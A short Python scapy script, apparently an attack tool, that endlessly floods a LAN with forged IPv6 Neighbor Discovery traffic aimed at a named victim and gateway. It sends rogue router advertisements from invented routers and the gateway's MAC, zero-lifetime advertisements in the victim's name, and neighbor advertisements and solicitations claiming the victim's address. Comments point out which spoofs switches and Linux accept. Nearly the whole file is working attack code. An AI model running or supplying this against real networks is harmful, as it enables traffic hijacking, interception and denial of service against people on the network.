"""Speaks for routers outside, some 100 times a second: makes up better ones, says goodbye for one that answers, claims its address.

Usage: forge.py VICTIM_ADDRESS VICTIM_MAC GATEWAY_ADDRESS GATEWAY_MAC. Prints a line once everything was sent once.
"""

import itertools
import sys
import time

from scapy.all import (
    Ether, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr, ICMPv6NDOptSrcLLAddr, IPv6, conf,
)

VICTIM, VICTIM_MAC, GATEWAY, GATEWAY_MAC = sys.argv[1:]
ALL, ALL_MAC = "ff02::1", "33:33:00:00:00:01"
MADE_UP = "02:00:00:00:0b:ad"


def ra(source, mac, lifetime=1800, sender=None, to=ALL_MAC):
    ether = Ether(src=sender or mac, dst=to)
    said = ICMPv6ND_RA(routerlifetime=lifetime, prf=1) / ICMPv6NDOptSrcLLAddr(lladdr=mac)
    return ether / IPv6(src=source, dst=ALL, hlim=255) / said


def na(target, mac, flags, to=(ALL, ALL_MAC)):
    ether = Ether(src=MADE_UP, dst=to[1])
    said = ICMPv6ND_NA(tgt=target, R=flags[0], S=flags[1], O=flags[2]) / ICMPv6NDOptDstLLAddr(lladdr=mac)
    return ether / IPv6(src=target, dst=to[0], hlim=255) / said


def ns(source, mac):
    said = ICMPv6ND_NS(tgt=GATEWAY) / ICMPv6NDOptSrcLLAddr(lladdr=mac)
    return Ether(src=mac, dst=GATEWAY_MAC) / IPv6(src=source, dst=GATEWAY, hlim=255) / said


def frames(number):
    made_up = f"fe80::bad:{number % 4096:x}"
    mac = f"02:00:00:00:{number // 256 % 256:02x}:{number % 256:02x}"
    yield ra(made_up, mac)
    yield ra("fe80::bad", MADE_UP)
    # From the gateway's own MAC, switches between would learn that it is here.
    yield ra("fe80::bad:1", GATEWAY_MAC, sender=MADE_UP)
    # Linux believes this of its neighbour: to the gateway alone.
    yield ra(GATEWAY, MADE_UP, to=GATEWAY_MAC)
    yield ra(VICTIM, MADE_UP, lifetime=0)
    yield ra(VICTIM, MADE_UP, lifetime=1)
    yield na(VICTIM, MADE_UP, (1, 0, 1))
    yield na(VICTIM, MADE_UP, (0, 0, 1))
    yield na(VICTIM, GATEWAY_MAC, (1, 0, 1))
    yield na(VICTIM, MADE_UP, (1, 1, 1), (GATEWAY, GATEWAY_MAC))
    yield ns(VICTIM, MADE_UP)


socket = conf.L2socket(iface="eth0")
for number in itertools.count():
    for frame in frames(number):
        socket.send(frame)
        time.sleep(0.01)
    if number == 0:
        print("all of it was sent once", flush=True)
